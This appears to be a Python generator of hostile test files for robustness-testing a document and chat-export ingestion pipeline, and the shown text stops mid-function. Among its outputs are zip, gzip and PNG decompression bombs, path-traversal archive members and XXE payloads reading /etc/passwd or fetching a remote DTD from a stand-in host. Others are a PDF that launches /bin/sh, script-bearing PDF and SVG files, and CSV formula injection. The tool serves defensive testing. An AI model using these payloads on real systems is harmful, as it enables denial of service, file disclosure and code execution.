"""Makes files that try to hurt whoever reads them: ``python tools/hostile.py FOLDER``. Harmless as long as nobody opens them.

Every file's defect stands in its name. The same seed gives the same bytes. Nothing is copied from collections of other
people: each is built here from the description of its format.
"""

from __future__ import annotations

import argparse
import gzip
import io
import json
import random
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Final

Files = Iterator[tuple[str, bytes]]
MARKER: Final = b"HARMLESS-MARKER-OF-A-TEST: a scanner for viruses would stop here"
WORDS: Final = "Aliya Example came to Almaty on 8 February 2021 and spoke before the office. "
EPOCH: Final = (2024, 5, 1, 12, 0, 0)
MUTATIONS: Final = 12
CUTS: Final = 6


def _zip(members: dict[str, bytes], *, flags: int = 0, mode: int = 0) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, EPOCH)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = mode << 16
            archive.writestr(info, data)
    raw = bytearray(made.getvalue())
    if flags:
        for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            at = raw.find(mark)
            while at >= 0:
                raw[at + offset] |= flags
                at = raw.find(mark, at + 4)
    return bytes(raw)


def _tar(entries: list[tuple[str, bytes, bytes]], *, packed: bool = True) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        for name, kind, data in entries:
            info = tarfile.TarInfo(name)
            info.type, info.size, info.linkname = kind, len(data), "/etc/passwd" if kind != tarfile.REGTYPE else ""
            archive.addfile(info, io.BytesIO(data))
    return gzip.compress(made.getvalue(), mtime=0) if packed else made.getvalue()


def _pdf(*objects: bytes, root: int = 1, tail: bytes = b"") -> bytes:
    """Builds a PDF of numbered objects with a right cross-reference table."""
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    made += b"trailer\n<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, tail, start)
    return bytes(made)


def _stream(data: bytes, more: bytes = b"") -> bytes:
    packed = zlib.compress(data, 9)
    return b"<</Length %d/Filter/FlateDecode%s>>stream\n%s\nendstream" % (len(packed), more, packed)


def _good_pdf() -> bytes:
    content = b"BT /F1 12 Tf 72 700 Td (" + WORDS.encode() + b") Tj ET"
    return _pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        _stream(content),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    )


def _png(width: int, height: int, data: bytes, *chunks: tuple[bytes, bytes]) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = [(b"IHDR", head), *chunks, (b"IDAT", zlib.compress(data, 9)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body)) for kind, body in parts
    )


def _jpeg() -> bytes:
    tables = b"\xff\xdb\x00\x43\x00" + bytes(range(1, 65))
    frame = b"\xff\xc0\x00\x0b\x08\xff\xff\xff\xff\x01\x01\x11\x00"
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + tables + frame + b"\xff\xd9"


def _box(kind: bytes, body: bytes, size: int | None = None) -> bytes:
    return struct.pack(">I", (len(body) + 8 if size is None else size) & 0xFFFFFFFF) + kind + body


def _mp4() -> bytes:
    return (
        _box(b"ftyp", b"isom\0\0\2\0isomiso2mp41") + _box(b"moov", _box(b"mvhd", bytes(100))) + _box(b"mdat", bytes(64))
    )


def _page(body: str, head: str = "") -> bytes:
    return f"<!DOCTYPE html><html><head><title>Hostile</title>{head}</head><body>{body}</body></html>".encode(
        "utf-8", "surrogatepass"
    )


def _docx(document: bytes, **more: bytes) -> bytes:
    types = (
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        b'wordprocessingml.document.main+xml"/></Types>'
    )
    return _zip({"[Content_Types].xml": types, "word/document.xml": document, **more})


def _body(inside: bytes) -> bytes:
    space = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return b'<w:document xmlns:w="%s"><w:body>%s</w:body></w:document>' % (space, inside)


LAUGHS: Final = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + level, b"&%c;" % (97 + level) * 10) for level in range(9))
    + b"]><r>&j;</r>"
)
QUADRATIC: Final = b'<!DOCTYPE r [<!ENTITY a "' + b"a" * 50_000 + b'">]><r>' + b"&a;" * 20_000 + b"</r>"
OUTSIDE: Final = b'<!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd">]><r>&a;</r>'
REMOTE: Final = b'<!DOCTYPE r SYSTEM "http://192.0.2.1/evil.dtd"><r>words</r>'
PARAMETER: Final = b'<!DOCTYPE r [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p; %p;]><r>words</r>'
DEEP_XML: Final = b"<a>" * 100_000 + b"words" + b"</a>" * 100_000


def texts() -> Files:
    """Broken encodings, floods of characters that do something, and lines without end."""
    sample = "Алия приехала в Алматы. Әлия Алматыға келді. عالىيە ئالمۇتا 阿丽亚来到阿拉木图。\n" * 20
    for encoding in ("utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "gb18030"):
        raw = sample.encode(encoding)
        yield f"text-{encoding}-cut-inside-a-character.txt", raw[:-1]
        yield f"text-{encoding}-shifted-by-one-byte.txt", raw[1:]
        yield f"text-{encoding}-with-random-bytes.txt", raw[:300] + bytes(range(128, 256)) + raw[300:]
    for encoding in ("cp1251", "koi8-r", "cp1254", "big5", "shift_jis", "cp1256"):
        yield f"text-{encoding}-said-to-be-utf8.txt", b"\xef\xbb\xbf" + sample.encode(encoding, "replace")
    floods = {
        "nul": "\0", "bell": "\a", "escape": "\x1b[2J", "backspace": "a\b", "carriage-return": "\r", "newline": "\n",
        "bidi-override": "\u202e\u202d", "bidi-isolate": "\u2066\u2067", "unclosed-bidi": "\u202b\u2068",
        "zero-width": "\u200b\u200d\ufeff", "combining": "a" + "\u0301" * 500, "private-use": "\ue000\uf8ff",
        "tags": "\U000e0041", "ligature": "\ufdfa", "line-separator": "\u2028\u2029", "variation": "a\ufe0f",
        "noncharacter": "\uffff\ufffe", "tab": "\t", "ideographic-space": "\u3000", "replacement": "\ufffd",
    }  # fmt: skip
    for name, unit in floods.items():
        yield f"flood-of-{name}.txt", (WORDS + unit * (30_000 // len(unit)) + WORDS).encode()
        yield f"flood-of-{name}-only.txt", (unit * (10_000 // len(unit))).encode()
    yield "text-lone-surrogates.txt", ("words \ud800 words \udfff words\n" * 100).encode("utf-8", "surrogatepass")
    yield "text-overlong-utf8.txt", b"words \xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf words\n" * 100
    yield "text-beyond-unicode.txt", b"words \xf4\x90\x80\x80 \xff\xfe words\n" * 100
    yield "text-cesu8-pairs.txt", b"words \xed\xa0\xbd\xed\xb8\x80 words\n" * 100
    yield "text-marks-of-every-encoding.txt", b"\xef\xbb\xbf\xff\xfe\xfe\xff\0\0\xfe\xff" * 50 + WORDS.encode()
    yield "text-20-megabytes-in-one-line.txt", WORDS.encode() * (20_000_000 // len(WORDS))
    yield "text-5-megabytes-without-a-space.txt", b"a" * 5_000_000
    yield "text-larger-than-is-read.txt", b"words of a large text\n" * 2_600_000
    yield "text-200000-lines.txt", b"a\n" * 200_000
    yield "text-harmless-marker.txt", MARKER
    yield "text-harmless-marker-in-a-zip.zip", _zip({"marker.com": MARKER})


def torture() -> Files:
    """Strings that keep badly made patterns busy: for dates, names, numbers, quotes, addresses and times."""
    units = {
        "digits": "1", "dates": "2021-", "dotted-numbers": "1.", "months": "May ", "day-month": "8 February ",
        "times": "10:", "ordinals": "1st ", "ranges": "5-15–", "percent": "99% ", "money": "60,000,", "tenge": "1 000 000 ",
        "capitals": "Abc ", "capital-letters": "A", "initials": "A. ", "titles": "Mr. Dr. ", "hyphens": "a-", "apostrophes": "a'",
        "quotes": '"', "open-quotes": "“", "nested-quotes": "“‘", "guillemets": "«", "quote-comma": '", "', "brackets": "(",
        "square-brackets": "[", "of-the": "of the ", "son-of": "son of ", "and": "Aliya and ", "said": "said ",
        "commas": ", ", "full-stops": ". ", "ellipses": "…", "colons": "a: ", "semicolons": "; ", "mails": "a@", "links": "http://",
        "slashes": "/", "backslashes": "\\", "spaces": " ", "tab-newline": "\t\n", "newline-space": "\n ", "question": "? ",
        "cyrillic": "Әлия ", "cyrillic-capitals": "А", "kazakh-endings": "ов", "patronymics": "Ивановна ", "arabic": "عالىيە ",
        "arabic-diacritics": "ا\u064b", "han": "阿", "han-stops": "。", "han-numbers": "二十", "turkish": "İı", "sharp": "ß",
        "hashtags": "#a", "at-names": "@a ", "emoji": "👩\u200d👧", "underscores": "_", "stars": "*", "equals": "=",
        "dashes": "— ", "zeros": "0", "exponents": "1e9", "years-old": "45-year-old ", "sentenced": "sentenced to 12 years ",
        "negations": "not ", "by-lines": "By Dana ", "datelines": "OSKEMEN, ", "markup": "<b>", "entities": "&amp;",
    }  # fmt: skip
    for name, unit in units.items():
        many = unit * (6_000 // len(unit))
        yield f"torture-{name}.txt", (WORDS + many + "! " + WORDS).encode()
        yield f"torture-{name}-in-lines.txt", "\n".join([WORDS, *[unit * 30] * 60]).encode()
    yield "torture-names-a-thousand-in-a-sentence.txt", " and ".join(f"Abc{n} Def{n}" for n in range(1_000)).encode()
    yield "torture-everything-in-turn.txt", "".join(unit * 20 for unit in units.values()).encode() * 4


def pages() -> Files:
    """Markup that is deep, wide, endless or lies."""
    for tag in ("div", "b", "span", "table", "ul", "blockquote", "form", "svg", "a", "font"):
        yield f"html-nested-{tag}-10000.html", _page(f"<{tag}>" * 10_000 + WORDS)
    for depth in (300, 30_000, 150_000):
        yield f"html-nested-div-{depth}.html", _page("<div>" * depth + WORDS + "</div>" * depth)
    yield "html-table-in-table-2000.html", _page("<table><tr><td>" * 2_000 + WORDS)
    yield "html-attribute-of-5-megabytes.html", _page(f'<p title="{"a" * 5_000_000}">{WORDS}</p>')
    yield "html-attribute-never-closed.html", _page(f'<p>{WORDS}<p title="{"a " * 100_000}')
    yield "html-attributes-30000.html", _page(f"<p {' '.join(f'a{n}=1' for n in range(30_000))}>{WORDS}</p>")
    yield "html-elements-30000.html", _page("<p>a</p>" * 30_000)
    yield "html-links-20000.html", _page('<a href="x">a</a> ' * 20_000)
    yield "html-rows-20000.html", _page("<table>" + "<tr><td>a<td>b" * 20_000)
    yield "html-entities.html", _page("&amp;&lt;&#x41;&#1114112;&#xD800;&#0;&nope;" * 5_000)
    yield "html-entity-of-a-million-digits.html", _page("&#" + "9" * 1_000_000 + ";" + WORDS)
    yield "html-comment-never-closed.html", _page(WORDS + "<!--" + "- " * 100_000)
    yield "html-comments-50000.html", _page("<!-- a -->" * 50_000 + WORDS)
    yield "html-script-never-closed.html", _page(WORDS + "<script>" + "a<b;" * 100_000)
    yield "html-style-of-a-megabyte.html", _page(WORDS, f"<style>{'a{b:c}' * 170_000}</style>")
    yield "html-data-address-of-5-megabytes.html", _page(f'<img src="data:image/png;base64,{"A" * 5_000_000}">{WORDS}')
    yield "html-textarea-never-closed.html", _page("<textarea>" * 5_000 + WORDS)
    yield "html-plaintext.html", _page("<plaintext>" + WORDS * 20)
    yield "html-nul-in-tags.html", b"<ht\0ml><bo\0dy><p\0>words</p\0>" * 200
    yield "html-says-utf16-is-utf8.html", _page(WORDS, '<meta charset="utf-16">')
    yield "html-says-an-encoding-there-is-not.html", _page(WORDS, '<meta charset="x-' + "a" * 10_000 + '">')
    yield "html-says-utf7.html", _page("+ADw-script+AD4-" + WORDS, '<meta charset="utf-7">')
    yield "html-two-hundred-encodings.html", _page(WORDS, '<meta charset="cp1251"><meta charset="utf-8">' * 100)
    yield (
        "html-calls-home.html",
        _page(
            f'{WORDS}<img src="http://192.0.2.1/a"><link rel=stylesheet href="//192.0.2.1/b"><iframe src="file:///etc/passwd">'
        ),
    )
    yield "html-bidi-in-the-title.html", _page(WORDS, "<title>\u202eevil\u202c</title>")
    yield "html-lone-surrogate.html", _page("words \ud800 " + WORDS)
    yield "html-a-thousand-titles.html", _page(WORDS, "<title>a</title>" * 1_000)
    yield "html-dates-20000.html", _page("".join(f"<time datetime=2021-01-{n % 40}>" for n in range(20_000)) + WORDS)
    yield (
        "html-json-ld-bomb.html",
        _page(
            WORDS,
            f'<script type="application/ld+json">{"[" * 100_000}</script><script type="application/ld+json">{{</script>',
        ),
    )
    yield "html-mixed-up-tags.html", _page("<b><i><p><table><a></b></i></p><td></a>" * 5_000 + WORDS)
    yield "html-nothing-but-tags.html", _page("<p><br><hr>" * 10_000)
    for name, data in _xml().items():
        for ending in ("xml", "html", "svg"):
            yield f"xml-{name}.{ending}", data


def _xml() -> dict[str, bytes]:
    return {
        "a-billion-laughs": LAUGHS, "quadratic-entities": QUADRATIC, "entity-from-a-file": OUTSIDE, "remote-dtd": REMOTE,
        "parameter-entities": PARAMETER, "100000-deep": DEEP_XML, "cut": LAUGHS[:-20], "no-root": b"<?xml version='1.0'?>",
        "attribute-of-a-megabyte": b'<r a="' + b"a" * 1_000_000 + b'">words</r>',
    }  # fmt: skip


def tables() -> Files:
    """Tables that are wide, long, or do something in the program that opens them."""
    yield "csv-a-million-columns.csv", b"a," * 1_000_000 + b"\n" + b"1," * 1_000_000
    yield "csv-200000-lines.csv", b"a,b\n" * 200_000
    yield "csv-field-of-5-megabytes.csv", b'a,"' + b"x" * 5_000_000 + b'"\n'
    yield "csv-quote-never-closed.csv", b'a,b\n"' + b"words,\n" * 30_000
    yield "csv-quotes-only.csv", b'"' * 100_001
    yield "csv-formulas.csv", b"=1+1,@SUM(A1),+1,-1,\t=1,\xef\xbc\x9d1\n" * 200
    yield "csv-nul.csv", b"a,\0,b\n" * 1_000
    yield "csv-lines-of-every-length.csv", b"".join(b"," * n + b"\n" for n in range(1_000))
    yield "csv-separators-mixed.csv", b"a,b;c\td|e\n" * 1_000
    yield "tsv-a-hundred-thousand-columns.tsv", b"a\t" * 100_000


def data() -> Files:
    """JSON that is deep, odd, or an export of a platform with the wrong things in its fields."""
    yield "json-arrays-100000-deep.json", b"[" * 100_000 + b"]" * 100_000
    yield "json-objects-100000-deep.json", b'{"a":' * 100_000 + b"1" + b"}" * 100_000
    yield "json-5-million-brackets.json", b"[" * 5_000_000
    yield "json-number-of-a-million-digits.json", b'{"id":' + b"9" * 1_000_000 + b"}"
    yield "json-numbers-beyond.json", b"[1e999,-1e999,NaN,Infinity,-0,1e-999]"
    yield "json-lone-surrogates.json", b'{"text":"\\ud800 \\udfff \\u0000"}'
    yield "json-a-name-twice.json", b'{"a":1,"a":2,' + b'"a":3,' * 10_000 + b'"a":4}'
    yield "json-nul.json", b'{"a":"\0"}'
    odd: list[object] = [
        None,
        0,
        -1,
        1e308,
        True,
        "",
        "\ud800",
        [],
        {},
        [[[]]],
        {"a": {"a": {}}},
        "9" * 5_000,
        "\u202e",
    ]
    for number, value in enumerate(odd):
        for name, export in _exports(value).items():
            text = json.dumps(export).replace("Infinity", "1e999")
            yield f"export-{name}-with-a-wrong-value-{number:02}.json", text.encode("utf-8", "surrogatepass")


def _exports(value: object) -> dict[str, object]:
    message = {"id": value, "type": "message", "date": value, "from": value, "text": value, "text_entities": value}
    status = {"id": value, "created_at": value, "content": value, "account": value, "in_reply_to_id": value}
    post = {"$type": "app.bsky.feed.defs#threadViewPost", "post": {"record": value, "author": value}, "replies": value}
    return {
        "telegram": {"name": value, "type": "personal_chat", "id": 1, "messages": [message, value]},
        "mastodon": {"ancestors": [status, value], "descendants": value},
        "bluesky": {"thread": post},
        "facebook": {
            "participants": value,
            "messages": [{"sender_name": value, "timestamp_ms": value}],
            "thread_path": value,
        },
        "video": {
            "id": value,
            "extractor": value,
            "title": value,
            "upload_date": value,
            "webpage_url": "http://192.0.2.1/",
        },
    }


def archives() -> Files:
    """Archives that unpack to too much, to elsewhere, or to nothing."""
    zeros = bytes(20_000_000)
    bomb = _zip({"a.txt": zeros})
    yield "zip-bomb-20-megabytes-from-20-kilobytes.zip", bomb
    yield "zip-bomb-ten-members.zip", _zip({f"{n}.json": zeros for n in range(5)})
    nested = _zip({f"{n}.zip": bomb for n in range(10)})
    yield "zip-in-zip-bomb.zip", nested
    for depth in range(8):
        nested = _zip({"inner.zip": nested})
        yield f"zip-nested-{depth + 3}-deep.zip", nested
    yield (
        "zip-member-leads-out.zip",
        _zip({"../../../../tmp/evil.txt": b"words", "/etc/evil": b"a", "C:\\evil.txt": b"b"}),
    )
    yield "zip-member-is-a-link.zip", _zip({"result.json": b"/etc/passwd"}, mode=0o120777)
    yield "zip-member-is-a-device.zip", _zip({"result.json": b""}, mode=0o060666)
    yield "zip-locked.zip", _zip({"result.json": b'{"messages":[]}'}, flags=1)
    yield "zip-60000-members.zip", _zip({f"{n}": b"" for n in range(60_000)})
    yield "zip-names-of-60000-bytes.zip", _zip({"a" * 60_000: b"words", "b" * 60_000: b"words"})
    yield "zip-names-of-control-characters.zip", _zip({"\x1b[2J\u202egnp.txt": b"words", "a\nb.json": b"{}"})
    yield "zip-empty.zip", b"PK\x05\x06" + bytes(18)
    yield "zip-says-65535-members.zip", b"PK\x05\x06" + bytes(4) + b"\xff\xff\xff\xff" + bytes(10)
    yield (
        "zip-says-its-list-is-4-gigabytes.zip",
        b"PK\x03\x04" + bytes(60) + b"PK\x05\x06" + bytes(8) + b"\xff" * 8 + bytes(2),
    )
    big = bytearray(_zip({"result.json": b"{}"}))
    big[22:26] = b"\xfe\xff\xff\xff"
    yield "zip-member-lies-about-its-size.zip", bytes(big)
    yield "zip-overlapping-members.zip", _overlapping()
    chat = "".join(f"[01.05.24, 10:00:{n % 60:02}] Aliya: words {n}\n" for n in range(1_000))
    yield "zip-whatsapp-bomb.zip", _zip({"_chat.txt": chat.encode() + zeros})
    yield "zip-whatsapp-with-bidi.zip", _zip({"_chat.txt": ("\u200e\u202e" + chat).encode()})
    yield (
        "zip-telegram-with-a-deep-text.zip",
        _zip({"result.json": b'{"name":"a","type":"personal_chat","id":1,"messages":' + b"[" * 100_000}),
    )
    yield "gzip-bomb-100-megabytes.gz", gzip.compress(bytes(100_000_000), mtime=0)
    yield "gzip-cut.gz", gzip.compress(WORDS.encode() * 100, mtime=0)[:-20]
    yield "gzip-of-gzip-of-gzip.gz", gzip.compress(gzip.compress(gzip.compress(zeros, mtime=0), mtime=0), mtime=0)
    regular, link = tarfile.REGTYPE, tarfile.SYMTYPE
    yield "tar-member-leads-out.tar.gz", _tar([("../../evil.json", regular, b"{}"), ("/etc/evil.json", regular, b"{}")])
    yield "tar-links.tar.gz", _tar([("a.json", link, b""), ("b.json", tarfile.LNKTYPE, b"")])
    yield "tar-devices.tar.gz", _tar([("a.json", tarfile.CHRTYPE, b""), ("b.json", tarfile.FIFOTYPE, b"")])
    yield "tar-bomb.tar.gz", _tar([(f"outbox{n}.json", regular, zeros) for n in range(4)])
    yield "tar-cut.tar", _tar([("outbox.json", regular, WORDS.encode() * 500)], packed=False)[:2_000]
    yield "tar-20000-members.tar.gz", _tar([(f"{n}.json", regular, b"") for n in range(20_000)])


def _overlapping() -> bytes:
    """Many entries of the list at the end point at one member: unpacked, it counts as often as it is listed."""
    raw = _zip({"a.json": bytes(5_000_000)})
    at, end = raw.find(b"PK\x01\x02"), raw.find(b"PK\x05\x06")
    entry = raw[at:end]
    entries = b"".join(entry.replace(b"a.json", b"%06d" % n) for n in range(2_000))
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 2_000, 2_000, len(entries), at, 0)
    return raw[:at] + entries + tail


def documents() -> Files:
    """Office documents, messages and rich text with a bomb inside."""
    paragraph = b"<w:p><w:r><w:t>words</w:t></w:r></w:p>"
    for name, inside in _xml().items():
        yield f"docx-{name}.docx", _docx(inside)
    yield "docx-bomb-of-20-megabytes.docx", _docx(_body(b"<w:t>" + b" " * 20_000_000 + b"</w:t>"))
    yield "docx-20000-paragraphs.docx", _docx(_body(paragraph * 20_000))
    yield "docx-5000-tables-deep.docx", _docx(_body(b"<w:tbl><w:tr><w:tc>" * 5_000))
    yield "docx-member-leads-out.docx", _docx(_body(paragraph), **{"../../evil.xml": b"<a/>"})
    yield "docx-without-a-document.docx", _zip({"[Content_Types].xml": b"<Types/>"})
    sheet = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s</sheetData></worksheet>'
    book = {
        "[Content_Types].xml": b"<Types/>",
        "xl/workbook.xml": b"<workbook><sheets><sheet name='a'/></sheets></workbook>",
    }
    cells = {
        "a-cell-at-the-far-corner": b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
        "a-cell-beyond-all-columns": b'<row r="1"><c r="ZZZZZZ99999999999"><v>1</v></c></row>',
        "a-hundred-thousand-cells": b"<row>" + b"<c><v>1</v></c>" * 100_000 + b"</row>",
        "dates-beyond": b'<row><c s="1"><v>1e300</v></c><c t="d"><v>99999-99-99</v></c></row>',
        "strings-there-are-not": b'<row><c t="s"><v>99999999</v></c><c t="s"><v>-1</v></c></row>',
    }
    for name, rows in cells.items():
        yield f"xlsx-{name}.xlsx", _zip({**book, "xl/worksheets/sheet1.xml": sheet % rows})
    kinds = {
        "odt": b"application/vnd.oasis.opendocument.text",
        "ods": b"application/vnd.oasis.opendocument.spreadsheet",
    }
    for ending, kind in kinds.items():
        for name, inside in list(_xml().items())[:6]:
            yield f"{ending}-{name}.{ending}", _zip({"mimetype": kind, "content.xml": inside})
    repeated = b'<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384"/>'
    yield "ods-17-billion-cells.ods", _zip({"mimetype": kinds["ods"], "content.xml": b"<o xmlns:table='t'>" + repeated})
    yield "rtf-100000-groups-deep.rtf", b"{\\rtf1" + b"{" * 100_000 + b"words"
    yield "rtf-says-4-gigabytes-follow.rtf", b"{\\rtf1\\bin4294967295 words}"
    yield "rtf-numbers-beyond.rtf", b"{\\rtf1\\u99999999999999999999 \\uc999999999 \\'zz words}"
    yield "rtf-a-million-words-of-control.rtf", b"{\\rtf1" + b"\\b" * 500_000 + b" words}"
    yield from _mails()


def _mails() -> Files:
    start = b"From: a@example.org\nTo: b@example.org\nSubject: words\nDate: Thu, 99 May 99999 99:99:99 +9999\n"
    yield (
        "mail-parts-2000-deep.eml",
        start + b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (n, n) for n in range(2_000)),
    )
    yield (
        "mail-20000-parts.eml",
        start + b'Content-Type: multipart/mixed; boundary="b"\n\n' + b"--b\n\nwords\n" * 20_000,
    )
    yield "mail-a-hundred-thousand-headers.eml", b"X-A: words\n" * 100_000 + start + b"\nwords\n"
    yield "mail-header-of-5-megabytes.eml", b"Subject: " + b"a " * 2_500_000 + b"\n\nwords\n"
    yield "mail-encoded-words.eml", b"Subject: " + b"=?utf-8?b?////?= " * 20_000 + b"\n\nwords\n"
    yield "mail-addresses.eml", b"To: " + b"<<a@" * 50_000 + b"\n" + start + b"\nwords\n"
    yield "mail-bad-base64.eml", start + b"Content-Transfer-Encoding: base64\n\n" + b"%%%%====" * 5_000
    yield "mail-no-boundary.eml", start + b"Content-Type: multipart/mixed\n\nwords\n"
    yield "mail-encoding-there-is-not.eml", start + b"Content-Type: text/plain; charset=x-none\n\n\xff\xfewords\n"
    yield "mail-messages-in-messages.eml", start + b"Content-Type: message/rfc822\n\n" * 2_000
    yield "mbox-3000-messages.mbox", b"From a@example.org Thu May  2 10:00:00 2024\n\nwords\n\n" * 3_000


def printed() -> Files:
    """PDFs that go in circles, promise too much, or carry something."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</XObject<</X 4 0 R>>/Font<</F1 5 0 R>>>>>>"
    catalog, font = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    one = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    say = _stream(b"BT /F1 12 Tf 72 700 Td (words) Tj ET")
    yield "pdf-page-tree-in-a-circle.pdf", _pdf(catalog, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>")
    yield (
        "pdf-says-2-billion-pages.pdf",
        _pdf(catalog, b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", page, say, font),
    )
    yield "pdf-says-less-than-no-pages.pdf", _pdf(catalog, b"<</Type/Pages/Kids[3 0 R]/Count -5>>", page, say, font)
    yield (
        "pdf-one-page-10000-times.pdf",
        _pdf(catalog, b"<</Type/Pages/Kids[" + b"3 0 R " * 10_000 + b"]/Count 10000>>", page, say, font),
    )
    yield (
        "pdf-form-calls-itself.pdf",
        _pdf(
            catalog,
            one,
            page,
            _stream(b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>"),
            font,
        ),
    )
    yield "pdf-content-bomb-50-megabytes.pdf", _pdf(catalog, one, page, _stream(b" " * 50_000_000), font)
    yield (
        "pdf-a-hundred-thousand-letters-on-one-spot.pdf",
        _pdf(catalog, one, page, _stream(b"BT /F1 1 Tf " + b"1 0 0 1 9 9 Tm (a) Tj " * 100_000 + b"ET"), font),
    )
    yield "pdf-graphics-states-100000-deep.pdf", _pdf(catalog, one, page, _stream(b"q " * 100_000), font)
    yield "pdf-arrays-100000-deep.pdf", _pdf(catalog + b"[" * 100_000, one, page, say, font)
    yield "pdf-page-of-no-size.pdf", _pdf(catalog, one, page.replace(b"[0 0 600 800]", b"[0 0 0 0]"), say, font)
    yield "pdf-page-of-a-light-year.pdf", _pdf(catalog, one, page.replace(b"600 800", b"1e30 1e30"), say, font)
    yield (
        "pdf-filters-a-hundred.pdf",
        _pdf(catalog, one, page, b"<</Length 5/Filter[" + b"/FlateDecode" * 100 + b"]>>stream\nwords\nendstream", font),
    )
    yield (
        "pdf-runs-a-script.pdf",
        _pdf(catalog[:-2] + b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", one, page, say, font),
    )
    yield (
        "pdf-starts-a-program.pdf",
        _pdf(catalog[:-2] + b"/OpenAction<</S/Launch/F(/bin/sh)>>>>", one, page, say, font),
    )
    yield "pdf-locked.pdf", _pdf(catalog, one, page, say, font, tail=b"/Encrypt<</Filter/Standard/V 5/R 6/Length 256>>")
    yield "pdf-table-of-places-points-at-itself.pdf", _good_pdf().replace(b"startxref\n", b"startxref\n9")
    yield "pdf-previous-table-in-a-circle.pdf", _pdf(catalog, one, page, say, font, tail=b"/Prev 9")
    yield "pdf-only-its-mark.pdf", b"%PDF-1.7"
    yield "pdf-mark-far-inside.pdf", b"words " * 150 + _good_pdf()


def media() -> Files:
    """Pictures, recordings and films whose first bytes promise what does not follow."""
    yield "png-100000-by-100000.png", _png(100_000, 100_000, bytes(1_000))
    yield "png-bomb.png", _png(20_000, 20_000, bytes(30_000_000))
    yield "png-of-no-size.png", _png(0, 0, b"")
    yield "png-text-bomb.png", _png(1, 1, bytes(4), (b"zTXt", b"a\0\0" + zlib.compress(bytes(20_000_000), 9)))
    yield "png-profile-bomb.png", _png(1, 1, bytes(4), (b"iCCP", b"a\0\0" + zlib.compress(bytes(20_000_000), 9)))
    yield "png-wrong-checksum.png", _png(9, 9, bytes(300))[:-6] + b"\0" * 6
    yield "jpeg-65535-by-65535.jpg", _jpeg()
    yield "jpeg-segment-longer-than-the-file.jpg", b"\xff\xd8\xff\xe1\xff\xffExif\0\0II*\0\xff\xff\xff\xff"
    yield (
        "jpeg-place-in-a-circle.jpg",
        b"\xff\xd8\xff\xe1\x00\x20Exif\0\0II*\0\x08\0\0\0\x01\0\x25\x88\x04\0\x01\0\0\0\x08\0\0\0\x08\0\0\0",
    )
    yield "gif-65535-by-65535.gif", b"GIF89a\xff\xff\xff\xff\xf7\0\0" + bytes(900)
    yield "gif-a-hundred-thousand-pictures.gif", b"GIF89a\1\0\1\0\x80\0\0" + bytes(6) + b"\x2c" + bytes(9) * 100_000
    yield "tiff-directory-in-a-circle.tif", b"II*\0\x08\0\0\0\0\0\x08\0\0\0"
    yield "webp-says-4-gigabytes.webp", b"RIFF\xff\xff\xff\xffWEBPVP8L\xff\xff\xff\xff/"
    yield "bmp-2-billion-wide.bmp", b"BM" + bytes(12) + struct.pack("<IiiHHI", 40, 2**31 - 1, -(2**31), 1, 32, 0)
    yield "svg-10000-references.svg", b'<svg xmlns="http://www.w3.org/2000/svg">' + b'<use href="#a"/>' * 10_000
    yield "svg-script.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>words</text></svg>'
    yield "mp4-box-of-no-size.mp4", _box(b"ftyp", b"isom") + _box(b"moov", b"", size=0)
    yield "mp4-box-of-4-gigabytes.mp4", _box(b"ftyp", b"isom") + _box(b"mdat", b"", size=2**32 - 1)
    nested = b""
    for _ in range(2_000):
        nested = _box(b"moov", nested)
